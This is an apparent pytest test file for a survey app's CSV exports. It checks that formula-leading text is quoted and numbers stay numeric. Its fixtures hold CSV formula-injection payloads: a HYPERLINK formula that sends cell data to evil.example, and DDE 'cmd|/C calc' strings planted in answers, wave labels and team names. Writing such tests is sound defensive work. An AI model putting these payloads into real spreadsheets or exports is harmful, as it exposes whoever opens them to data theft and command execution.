"""Every CSV PeerPulse writes neutralises formula prefixes in text cells and keeps numbers numeric."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import zipfile
from collections.abc import Iterable
from pathlib import Path

import pytest
from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from instruments import load_themes
from instruments.codebook import write_codebook
from instruments.redcap import dictionary_csv
from instruments.safe_csv import FORMULA_PREFIXES, frame_text, neutralise, rows_text
from survey import models as m
from survey.services import enrolment
from survey.services.demo import load_demo
from survey.services.exports import build_export
from tests import factories as f
from tests.conftest import StaffLogin
from tests.instruments.builders import make_instrument

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
HOSTILES = (HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")


def _unsafe_cells(text: str) -> list[str]:
    """Every cell of a CSV text that a spreadsheet would run as a formula."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
            if cell.startswith(FORMULA_PREFIXES) and neutralise(cell) != cell]


def _all_cells(text: str) -> Iterable[str]:
    return (cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row)


@pytest.mark.parametrize("value", HOSTILES)
def test_a_formula_gets_a_leading_quote(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert list(_all_cells(rows_text([["a", value, 3]]))) == ["a", "'" + value, "3"]


@pytest.mark.parametrize("value", ["-9", "+0.3", "-1.5", "1e-3", "-.5", 4, -9, 2.5, None, "plain", ""])
def test_numbers_and_plain_text_are_unchanged(value: object) -> None:
    assert neutralise(value) is value


def test_a_frame_keeps_numeric_columns_as_pandas_writes_them() -> None:
    import pandas as pd

    frame = pd.DataFrame({"n": pd.array([4, None, -9], dtype="Int64"), "x": [0.5, -1.25, None],
                          "t": [HOSTILE, None, "-9"], "c": pd.Categorical(["@a", "b", "@a"])})
    rows = list(csv.reader(io.StringIO(frame_text(frame))))
    assert rows == [["n", "x", "t", "c"], ["4", "0.5", "'" + HOSTILE, "'@a"],
                    ["", "-1.25", "", "b"], ["-9", "", "-9", "'@a"]]


@pytest.fixture
def hostile_demo(db: Session) -> m.Study:
    """The demo study with a hostile free-text answer, wave label and team name."""
    load_demo(db, today=dt.date(2026, 11, 26))
    db.commit()
    study = db.scalars(select(m.Study)).one()
    answer = db.scalars(select(m.Answer).where(m.Answer.value_text.is_not(None))
                        .order_by(m.Answer.id)).first()
    assert answer is not None, "the demo should hold free-text answers"
    answer.value_text = HOSTILE
    for wave in study.waves:
        wave.label = "=cmd|'/C calc'!A0 " + wave.label
    for team in db.scalars(select(m.Team)):
        team.name = "@" + team.name
    db.commit()
    return study


def test_every_csv_of_the_export_is_neutralised(db: Session, hostile_demo: m.Study) -> None:
    archive = zipfile.ZipFile(io.BytesIO(build_export(db, hostile_demo, None)))
    names = [n for n in archive.namelist() if n.endswith(".csv")]
    assert {"long.csv", "wide.csv", "codebook.csv", "items_peer_worker_v2.csv"} <= set(names)
    for name in names:
        text = archive.read(name).decode()
        assert _unsafe_cells(text) == [], name
    items = "".join(archive.read(n).decode() for n in names if n.startswith("items_"))
    assert "'" + HOSTILE in list(_all_cells(items))
    # Coded answers stay numbers: the "does not apply" code is written -9, not '-9.
    assert "-9" in list(_all_cells(archive.read("items_peer_worker_v2.csv").decode()))


def test_the_api_long_csv_is_neutralised(db: Session, client: FlaskClient, auth: StaffLogin,
                                         hostile_demo: m.Study) -> None:
    for team in db.scalars(select(m.Team)):
        team.code = "-" + team.code  # the long table carries team codes
    user = f.UserFactory(role=m.StaffRole.RESEARCHER)
    db.commit()
    auth.login(user.email)
    response = client.get(f"/api/v1/studies/{hostile_demo.code}/long?format=csv")
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    text = response.get_data(as_text=True)
    assert _unsafe_cells(text) == []
    assert any(c.startswith("'-") for c in _all_cells(text))  # the hostile team codes, quoted


def test_dashboard_csv_neutralises_wave_labels_and_team_names(
    db: Session, client: FlaskClient, auth: StaffLogin, hostile_demo: m.Study
) -> None:
    user = f.UserFactory(role=m.StaffRole.RESEARCHER)
    db.commit()
    auth.login(user.email)
    org = db.scalars(select(m.Organisation).order_by(m.Organisation.id)).first()
    team = db.scalars(select(m.Team).where(m.Team.organisation_id == org.id).order_by(m.Team.id)).first()
    assert org is not None and team is not None
    for url in (f"/dashboard/{org.code}/figures.csv", f"/dashboard/{org.code}/teams/{team.code}/figures.csv"):
        response = client.get(url)
        assert response.status_code == 200, url
        text = response.get_data(as_text=True)
        assert _unsafe_cells(text) == [], url
        assert any(c.startswith("'=cmd") for c in _all_cells(text)), url  # wave labels, quoted


def test_codebook_and_redcap_dictionary_are_neutralised(tmp_path: Path) -> None:
    built = make_instrument({"identity": [("i1", False), ("i2", True), ("i3", False)]})
    hostile_items = tuple(dataclasses.replace(item, text=HOSTILE) for item in built.items)
    instrument = dataclasses.replace(built, items=hostile_items)
    paths = write_codebook([instrument], load_themes(), tmp_path)
    codebook = next(p for p in paths if p.suffix == ".csv").read_text(encoding="utf-8")
    assert _unsafe_cells(codebook) == [] and "'" + HOSTILE in list(_all_cells(codebook))
    dictionary = dictionary_csv(instrument)
    assert _unsafe_cells(dictionary) == [] and "'" + HOSTILE in list(_all_cells(dictionary))


def test_enrolment_template_goes_through_the_writer() -> None:
    text = enrolment.template_csv()
    assert _unsafe_cells(text) == []
    assert next(csv.reader(io.StringIO(text))) == list(enrolment.COLUMNS + enrolment.OPTIONAL_COLUMNS)
